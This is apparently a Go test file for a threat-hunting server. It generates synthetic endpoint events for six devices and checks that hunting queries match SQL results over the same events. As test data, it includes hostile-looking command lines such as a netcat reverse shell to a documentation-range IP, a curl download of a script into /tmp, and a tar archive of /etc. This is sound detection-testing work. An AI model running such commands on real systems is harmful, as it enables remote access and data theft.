package server

import (
	"database/sql"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	ev "github.com/picketsec/picket/internal/event"
)

// fieldTime is how times are written in answers.
const fieldTime = "2006-01-02T15:04:05.0000000Z"

// fieldColumns are the columns of the events of the field, of which SQL has a table.
var fieldColumns = []ev.Column{ev.FileName, ev.FolderPath, ev.SHA256, ev.ProcessCommandLine, ev.InitiatingProcessFileName, ev.InitiatingProcessCommandLine, ev.AccountName, ev.RemoteIP, ev.Protocol, ev.LogonType, ev.ContainerID}

// fieldEvent makes the event number i of the field.
func fieldEvent(r *rand.Rand, l *life) ev.Event {
	pick := func(list ...string) string { return list[r.IntN(len(list))] }
	user, parent := pick("root", "root", "alice", "bob", "svc-backup"), pick("bash", "cron", "sshd", "systemd")
	address := fmt.Sprintf("203.0.113.%d", r.IntN(6))
	acts := func(a ev.Action, set func(e *ev.Event)) ev.Event {
		return l.event(a, func(e *ev.Event) {
			e.Set(ev.InitiatingProcessFileName, parent)
			e.Set(ev.InitiatingProcessCommandLine, "/usr/bin/"+parent+" -l")
			e.Set(ev.AccountName, user)
			set(e)
		})
	}
	switch n := r.IntN(10); {
	case n < 5:
		name := pick("bash", "curl", "wget", "python3", "nc", "base64", "chmod", "tar", "Crontab")
		line := map[string]string{"bash": "bash -c 'id; uname -a'", "curl": "curl -s http://" + address + "/p.sh -o /tmp/p.sh", "wget": "wget -q https://updates.example/pkg.deb", "python3": "python3 -c \"import socket,os\"",
			"nc": "nc -e /bin/sh " + address + " 4444", "base64": "base64 -d /tmp/blob", "chmod": "chmod +x /tmp/.hidden/run", "tar": "tar czf /tmp/out.tgz /etc", "Crontab": "Crontab -l"}[name]
		return acts(ev.ProcessCreated, func(e *ev.Event) {
			e.Set(ev.FileName, name)
			e.Set(ev.FolderPath, "/usr/bin/"+name)
			e.Set(ev.ProcessCommandLine, line)
			e.Set(ev.SHA256, strings.Repeat(fmt.Sprintf("%02x", len(name)), 32))
			e.SetInt(ev.ProcessID, int64(1000+r.IntN(100)))
			if r.IntN(4) == 0 {
				e.Set(ev.ContainerID, pick("c0ffee", "beef"))
			}
		})
	case n < 7:
		return acts([]ev.Action{ev.ConnectionSuccess, ev.ConnectionSuccess, ev.ConnectionFailed}[r.IntN(3)], func(e *ev.Event) {
			e.Set(ev.RemoteIP, pick(address, "10.0.0.5", "10.1.2.3", "192.168.1.9"))
			e.SetInt(ev.RemotePort, []int64{22, 53, 443, 443, 4444}[r.IntN(5)])
			e.Set(ev.Protocol, pick("Tcp", "Udp"))
		})
	case n < 9:
		return acts([]ev.Action{ev.FileCreated, ev.FileModified, ev.FileDeleted}[r.IntN(3)], func(e *ev.Event) {
			name := pick("job", "p.sh", "authorized_keys", "passwd", "out.tgz")
			e.Set(ev.FileName, name)
			e.Set(ev.FolderPath, map[string]string{"job": "/etc/cron.d/job", "p.sh": "/tmp/p.sh", "authorized_keys": "/srv/keys/authorized_keys", "passwd": "/etc/passwd", "out.tgz": "/tmp/out.tgz"}[name])
			e.SetInt(ev.FileSize, int64(r.IntN(5000)))
		})
	}
	return acts([]ev.Action{ev.LogonSuccess, ev.LogonFailed}[r.IntN(2)], func(e *ev.Event) {
		e.Set(ev.LogonType, pick("RemoteInteractive", "Network"))
		e.Set(ev.RemoteIP, address)
	})
}

// field is a server with the events of six devices over ten hours, and the same
// events in a database of SQL.
func field(t *testing.T) (*Server, *sql.DB, time.Time) {
	t.Helper()
	s, r := testServer(t), rand.New(rand.NewPCG(7, 7))
	db, err := sql.Open("sqlite", ":memory:")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = db.Close() })
	db.SetMaxOpenConns(1)
	cols := "Timestamp TEXT, DeviceId TEXT, ActionType TEXT, T TEXT, ProcessId INTEGER, RemotePort INTEGER, FileSize INTEGER"
	for _, c := range fieldColumns {
		cols += ", " + c.String() + " TEXT"
	}
	run := func(text string, args ...any) {
		if _, err := db.Exec(text, args...); err != nil {
			t.Fatalf("%s: %v", text, err)
		}
	}
	run("CREATE TABLE ev (" + cols + ")")
	for _, table := range []ev.Table{ev.ProcessEvents, ev.NetworkEvents, ev.FileEvents, ev.LogonEvents} {
		run(fmt.Sprintf("CREATE VIEW %s AS SELECT * FROM ev WHERE T = '%s'", table, table))
	}
	now := time.Now().UTC()
	base := now.Add(-10 * time.Hour).Truncate(time.Second)
	for d := range 6 {
		l := newLife(t, s, fmt.Sprintf("field-%d", d))
		var batch []ev.Event
		for m := d; m < 600; m += 6 { // no event is near a whole hour before now
			if m%60 < 6 || m%60 >= 54 {
				continue
			}
			l.now = base.Add(time.Duration(m)*time.Minute - time.Second)
			e := fieldEvent(r, l)
			batch = append(batch, e)
			args := []any{e.Time.Format(fieldTime), string(l.id), e.Action.String(), e.Action.Table().String()}
			for _, c := range []ev.Column{ev.ProcessID, ev.RemotePort, ev.FileSize} {
				var v any
				if f, ok := e.Get(c); ok {
					v = f.Number
				}
				args = append(args, v)
			}
			for _, c := range fieldColumns {
				args = append(args, e.Text(c))
			}
			run("INSERT INTO ev VALUES (?"+strings.Repeat(", ?", len(args)-1)+")", args...)
		}
		l.send(batch...)
	}
	return s, db, now
}

// TestFieldQueries runs queries in the style of those that people share: what they
// give is what SQL, over the same events, gives.
func TestFieldQueries(t *testing.T) {
	s, db, now := field(t)
	raw, err := os.ReadFile(filepath.Join("testdata", "hunting_field.txt"))
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	for _, part := range strings.Split("\n"+string(raw), "\n== ")[1:] {
		title, rest, _ := strings.Cut(part, "\n")
		query, text, ok := strings.Cut(rest, "\n-- sql\n")
		if !ok {
			t.Fatalf("%s has no SQL", title)
		}
		for _, h := range []int{1, 2, 3, 4, 6, 8} {
			text = strings.ReplaceAll(text, fmt.Sprintf("{%dh}", h), "'"+now.Add(-time.Duration(h)*time.Hour).Format(fieldTime)+"'")
		}
		count++
		got, _ := hunted(t, s, admin, query)
		want := fieldRows(t, db, title, text)
		if strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Errorf("%s:\n%s\ngives\n%s\nwant\n%s", title, query, strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
		if len(want) == 0 {
			t.Errorf("%s: nothing is compared", title)
		}
	}
	if count < 60 {
		t.Errorf("there are %d queries", count)
	}
}

func fieldRows(t *testing.T, db *sql.DB, title, text string) []string {
	t.Helper()
	rows, err := db.Query(text)
	if err != nil {
		t.Fatalf("%s: %v", title, err)
	}
	defer func() { _ = rows.Close() }()
	cols, err := rows.Columns()
	if err != nil {
		t.Fatal(err)
	}
	out := []string{}
	for rows.Next() {
		vals, at := make([]sql.NullString, len(cols)), make([]any, len(cols))
		for i := range vals {
			at[i] = &vals[i]
		}
		if err := rows.Scan(at...); err != nil {
			t.Fatal(err)
		}
		var cells []string
		for _, v := range vals {
			cells = append(cells, v.String)
		}
		out = append(out, strings.Join(cells, "|"))
	}
	if err := rows.Err(); err != nil {
		t.Fatalf("%s: %v", title, err)
	}
	slices.Sort(out)
	return out
}
